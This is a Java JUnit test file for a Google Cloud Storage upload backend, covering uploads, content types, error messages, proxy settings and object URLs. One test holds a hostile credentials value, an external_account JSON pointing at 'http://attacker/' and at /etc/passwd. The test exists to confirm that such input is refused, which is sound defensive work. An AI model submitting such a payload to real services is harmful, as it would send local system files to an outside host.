package io.egress4j.storage.gcs;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.cloud.storage.Blob;
import com.google.cloud.storage.BlobId;
import com.google.cloud.storage.Storage;
import com.google.cloud.storage.contrib.nio.testing.LocalStorageHelper;
import io.egress4j.api.EgressException;
import io.egress4j.api.StorageSettings;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The GCS backend against google-cloud-nio's {@link LocalStorageHelper}: an in-memory {@link Storage} without HTTP.
 * No HTTP-level GCS emulator is available on this machine (fake-gcs-server is in neither npm nor Debian, and the
 * Firebase emulator downloads a jar from the internet), so the component takes its {@code Storage} from a
 * package-private constructor here. {@link GcsHttpTest} covers the real HTTP transport against a stub server.
 */
class GcsStorageTest {

    @TempDir
    Path dir;

    private final Storage memory = LocalStorageHelper.getOptions().getService();
    private final GcsStorage storage = new GcsStorage(settings -> memory, false);

    private static Map<String, String> settings() {
        Map<String, String> settings = new HashMap<>();
        settings.put("bucket", "recordings");
        return settings;
    }

    private static byte[] random(int size) {
        byte[] data = new byte[size];
        new Random(size).nextBytes(data);
        return data;
    }

    @Test
    void uploadsAFileWithItsContentType() throws Exception {
        byte[] data = random(100_000);
        Path file = Files.write(dir.resolve("a.mp4"), data);

        String location = storage.upload(file, "rooms/r1/a.mp4", "video/mp4", of(settings()));

        assertEquals("https://recordings.storage.googleapis.com/rooms/r1/a.mp4", location);
        Blob blob = memory.get(BlobId.of("recordings", "rooms/r1/a.mp4"));
        assertArrayEquals(data, blob.getContent());
        assertEquals("video/mp4", blob.getContentType());
    }

    @Test
    void uploadsALargeFile() throws Exception {
        byte[] data = random(17 * 1024 * 1024);
        Path file = Files.write(dir.resolve("big.mp4"), data);

        String location = storage.upload(file, "/big.mp4", "video/mp4", of(settings()));

        assertEquals("https://recordings.storage.googleapis.com/big.mp4", location);
        assertArrayEquals(data, memory.get(BlobId.of("recordings", "big.mp4")).getContent());
    }

    @Test
    void aMissingBucketSettingIsInvalid() throws Exception {
        Path file = Files.writeString(dir.resolve("x.mp4"), "x");
        EgressException e = assertThrows(EgressException.class,
                () -> storage.upload(file, "x.mp4", "video/mp4", of(Map.of())));
        assertEquals("gcp: bucket is not set", e.getMessage());
        assertEquals(EgressException.Code.INVALID_ARGUMENT, e.code());
    }

    @Test
    void badCredentialsJsonFailsWithoutShowingIt() throws Exception {
        Path file = Files.writeString(dir.resolve("x.mp4"), "x");
        String json = "{\"type\": \"service_account\", \"private_key\": \"-----BEGIN PRIVATE KEY-----secret-material\"}";
        Map<String, String> settings = settings();
        settings.put("credentials_json", json);

        EgressException e = assertThrows(EgressException.class,
                () -> new GcsStorage().upload(file, "x.mp4", "video/mp4", of(settings)));

        assertTrue(e.getMessage().startsWith("gcp: cannot upload x.mp4 to bucket recordings: "), e.getMessage());
        assertFalse(e.getMessage().contains("secret-material"), e.getMessage());
    }

    @Test
    void aRequestBringsAServiceAccountKeyOrNothing() {
        // external_account files make the client read a local file and post it to a URL the file names.
        String external = "{\"type\": \"external_account\", \"token_url\": \"http://attacker/\","
                + " \"credential_source\": {\"file\": \"/etc/passwd\"}}";
        EgressException refused = assertThrows(EgressException.class, () -> new GcsStorage().check(StorageSettings
                .ofRequest(GcsStorage.GcsSettings.DECLARED, Map.of("bucket", "b", "credentials", external),
                        Map.of())));
        assertEquals("request has missing or invalid field: gcp.credentials (only service account keys are "
                + "accepted)", refused.getMessage());
        EgressException noKey = assertThrows(EgressException.class, () -> new GcsStorage().check(StorageSettings
                .ofRequest(GcsStorage.GcsSettings.DECLARED, Map.of("bucket", "b"), Map.of())));
        assertTrue(noKey.getMessage().startsWith("request has missing or invalid field: gcp.credentials (this node"
                + " lends its own credentials to no request"), noKey.getMessage());
    }

    @Test
    void aProxyUrlMustBeAUrl() throws Exception {
        Path file = Files.writeString(dir.resolve("x.mp4"), "x");
        Map<String, String> settings = settings();
        settings.put("proxy.url", "not a url");
        EgressException e = assertThrows(EgressException.class,
                () -> storage.upload(file, "x.mp4", "video/mp4", of(settings)));
        assertTrue(e.getMessage().startsWith("gcp: setting proxy.url must be"), e.getMessage());
    }

    @Test
    void locationsFollowUpstream() {
        assertEquals("https://mybucket.storage.googleapis.com/foo.mp4", GcsStorage.location("mybucket", "foo.mp4"));
        assertEquals("https://mybucket.storage.googleapis.com/a/b/c.mp4", GcsStorage.location("mybucket", "a/b/c.mp4"));
        assertEquals("https://mybucket.storage.googleapis.com/foo.mp4", GcsStorage.location("mybucket", "/foo.mp4"));
        assertEquals("https://mybucket.storage.googleapis.com/folder/my%20file.mp4",
                GcsStorage.location("mybucket", "folder/my file.mp4"));
        assertEquals("https://mybucket.storage.googleapis.com/caf%C3%A9/r%C3%A9sum%C3%A9.mp4",
                GcsStorage.location("mybucket", "café/résumé.mp4"));
    }

    private static StorageSettings of(Map<String, String> settings) {
        return StorageSettings.of(GcsStorage.GcsSettings.DECLARED, settings);
    }
}
